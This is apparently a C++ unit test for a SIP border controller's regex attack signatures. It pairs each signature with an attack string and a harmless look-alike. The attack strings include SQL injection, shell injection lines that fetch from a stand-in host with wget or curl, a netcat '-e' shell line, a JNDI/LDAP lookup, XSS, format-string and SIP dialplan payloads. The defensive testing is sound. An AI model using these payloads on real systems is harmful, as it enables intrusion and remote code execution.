// Of each shipped signature with a regex: what it stops, and what holds its pattern and is let pass.
#include <algorithm>

#include <gtest/gtest.h>

#include "policy/signatures/signature_file.h"

namespace sbc::policy {
namespace {

struct Row {
  uint32_t id;
  std::string_view attack, harmless;  // the content of the place that the signature looks at
};

const Row rows[] = {
    {1012, "iWar 0.08", "HaiWare iWary 1.0"},
    {1013, "Gulp", "The Gulp Phone"},
    {1014, "smap 0.6.0", "smaphone 1.0"},
    {3001, "x' or a=a", "\"Alice (work) or Bob\" <sip:a@b>;tag=1"},
    {3002, "'or'1'='1", "\"Côte d'Or\" <sip:a@b>;tag=1"},
    {3003, "' OR 1=1", "a=fmtp:97 profile-level-id=1;packetization-mode=1;x1=1"},
    {3004, "' and '1'='1", "\"Bits' and Bobs\" <sip:a@b>;tag=1"},
    {3011, "1 UNION ALL SELECT null", "\"Union, Select and Sons\" <sip:a@b>"},
    {3011, "1/**x*/union/*y*/select/**/2", "reunion select"},
    {3012, "x'; drop table subscriber", "\"Drop Table Inc. (Sales)\" <sip:a@b>"},
    {3013, "'; delete from cdr", "please delete from your list"},
    {3014, "'; insert into users", "do insert into slot B"},
    {3015, "'; update subscriber set password='x'", "an update is set up; all set to go"},
    {3016, "') order by 7", "sort order by 2024"},
    {3017, "(select password from subscriber)", "please select one from below"},
    {3022, "' and sleep(5)", "\"Sleep (Deep) Inc.\"; Sleep(y)"},
    {3023, ",benchmark(5000000,md5(1))", "my benchmark(v2)"},
    {3027, "1 into outfile '/x'", "put into files"},
    {3101, "a;wget http://192.0.2.1/x", "Phone (X11; wget 1.20)"},
    {3101, "$(/usr/bin/wget -q 192.0.2.1)", "wget http://192.0.2.1/manual"},
    {3102, "`curl -s 192.0.2.1`", "Phone (curl 7.68.0; x86)"},
    {3103, "|/bin/sh", "kit/bin/share"},
    {3103, "; /usr/bin/python3 -V", "sbc;home=/bin/idle"},
    {3105, "nc 192.0.2.1 4444 -e /bin/x", "dance -e flat"},
    {3107, "; chmod 777 /tmp/x", "see chmod 7 manual"},
    {3108, ";busybox wget x", "busybox 1.30"},
    {3111, "a$(whoami)b", "price$(12)"},
    {3111, "$( /usr/bin/id -u )", "$(,)"},
    {3112, "/bash -c x", "wish -c x"},
    {3113, "powershell.exe -enc AAAA", "Powershell Phone 1.0"},
    {3115, "${jndi:ldap://192.0.2.1/a}", "jndi:x"},
    {3120, "{{7*7}}", "{{name}}"},
    {3151, "INVITE sip:${SHELL(id)}@b SIP/2.0", "INVITE sip:${EXTEN}@b SIP/2.0"},
    {3152, "INVITE sip:${system touch}@b SIP/2.0", "INVITE sip:${systematic}@b SIP/2.0"},
    {3157, "INVITE sip:{execute_on_answer=x}1@b SIP/2.0", "INVITE sip:execute_on_time@b SIP/2.0"},
    {3301, "\"<script>x\" <sip:a@b>", "<scripts@b>"},
    {3302, "javascript:alert(1)", "\"JavaScript: the good parts\" <sip:a@b>"},
    {3303, "\"x onerror=y\" <sip:a@b>", "retry-onerror=yes"},
    {3304, "\"x/onload =y\" <sip:a@b>", "\"Onload Networks\" <sip:a@b>"},
    {3306, "<iframe src=x>", "<iframes>"},
    {4005, "%08x.%08x.%08x", "%08x.%08x"},
    {4006, "%1$n", "$n 5%"},
    {4007, "%100x%hn", "%hn"},
    {4133, "a=T38FaxMaxBuffer:-1", "a=T38FaxMaxBuffer:1024"},
    {5009, "INVITE sip:0000442079460000@b SIP/2.0", "OPTIONS sip:00001@b SIP/2.0"},
    {5010, "INVITE sip:9011442079460000@b SIP/2.0", "INVITE sip:9011@b SIP/2.0"},
    {5011, "INVITE sip:00972592345678@b SIP/2.0", "INVITE sip:4997259@b SIP/2.0"},
    {5012, "INVITE sip:%2527@b SIP/2.0", "INVITE sip:100%25@b SIP/2.0"},
    {5013, "<sip:%253cx@b>", "<sip:100%25@b>"},
};

std::string message_with(const Signature& signature, std::string_view content) {
  std::string text(content);
  if (signature.where == Where::start_line) return text + "\r\nMax-Forwards: 70\r\n\r\n";
  if (signature.where == Where::body) return "INVITE sip:a@b SIP/2.0\r\nMax-Forwards: 70\r\n\r\n" + text;
  std::string name = signature.where == Where::header ? signature.header_name : "Subject";
  return "INVITE sip:a@b SIP/2.0\r\nMax-Forwards: 70\r\n" + name + ": " + text + "\r\n\r\n";
}

class ExampleRegexes : public ::testing::Test {
 protected:
  void SetUp() override {
    set = load_signature_file(SBC_SOURCE_DIR "/config/examples/signatures.yaml").set;
    ASSERT_TRUE(set.fit(scratch));
  }
  const Signature& signature(uint32_t id) {
    for (const Signature& each : set.signatures()) {
      if (each.id == id) return each;
    }
    ADD_FAILURE() << "there is no signature " << id;
    return set.signatures()[0];
  }
  bool matches(uint32_t id, std::string_view content) {
    SignatureVerdict verdict = set.scan(scratch, message_with(signature(id), content));
    auto found = verdict.matches();
    return std::any_of(found.begin(), found.end(),
                       [&](uint32_t index) { return set.signatures()[index].id == id; });
  }

  SignatureSet set;
  match::Scratch scratch;
};

TEST_F(ExampleRegexes, StopAttacksAndLetPassWhatOnlyLooksAlike) {
  for (const Row& row : rows) {
    EXPECT_TRUE(matches(row.id, row.attack)) << row.id << ": " << row.attack;
    EXPECT_FALSE(matches(row.id, row.harmless)) << row.id << ": " << row.harmless;
  }
}

TEST_F(ExampleRegexes, EmptyHeaderFieldsByTheDozenAreABomb) {
  std::string fields;
  for (int i = 0; i < 31; ++i) fields += "\r\nSupported: ";
  EXPECT_FALSE(matches(4120, "x" + fields));
  EXPECT_TRUE(matches(4120, "x" + fields + "\r\nAllow:\r\nEvent: x"));
}

TEST_F(ExampleRegexes, AllHaveARow) {
  for (const Signature& each : set.signatures()) {
    if (!each.regex || each.id == 4120) continue;
    EXPECT_TRUE(std::any_of(std::begin(rows), std::end(rows), [&](const Row& row) {
      return row.id == each.id;
    })) << each.id;
  }
}

}  // namespace
}  // namespace sbc::policy
